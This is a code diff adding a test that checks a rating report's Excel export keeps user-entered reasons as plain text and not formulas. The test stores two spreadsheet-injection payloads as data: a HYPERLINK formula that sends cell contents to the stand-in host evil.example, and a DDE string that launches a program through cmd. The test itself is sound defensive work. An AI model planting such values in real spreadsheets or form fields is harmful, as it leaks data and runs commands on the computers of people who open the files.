@@ -84,3 +84,26 @@ def test_the_listed_ratings_and_the_method_are_in_the_workbook(workbook):
     assert report.rubric.name in about and "(k + m·p0) / (n + m)" in about
     rates = _rows(book["Tỷ lệ chung điểm phục vụ"])
     assert rates[0]["Tỷ lệ hài lòng chung (p0)"] == stored(report.result.sites[0].satisfaction_p0)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"x")'
+
+
+def test_a_reason_typed_as_a_formula_stays_text_in_the_workbook(app, db, october):
+    from zipfile import ZipFile
+
+    from sqlalchemy import update
+
+    from models import Rating, RatingContest
+
+    db.execute(update(Rating).where(Rating.excluded).values(excluded_reason=FORMULA))
+    db.execute(update(RatingContest).values(reason="@SUM(1+1)*cmd|' /C calc'!A0"))
+    db.commit()
+    report = compute_month(db, "2026-10", zone=ZONE)
+    data = ranking_file(db, report, Selection(), app.config, "xlsx").data
+    with ZipFile(io.BytesIO(data)) as archive:
+        sheets = [archive.read(name).decode() for name in archive.namelist()
+                  if name.startswith("xl/worksheets/")]
+    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
+    book = load_workbook(io.BytesIO(data))
+    assert _rows(book["Phiếu bị loại"])[0]["Lý do loại"] == FORMULA
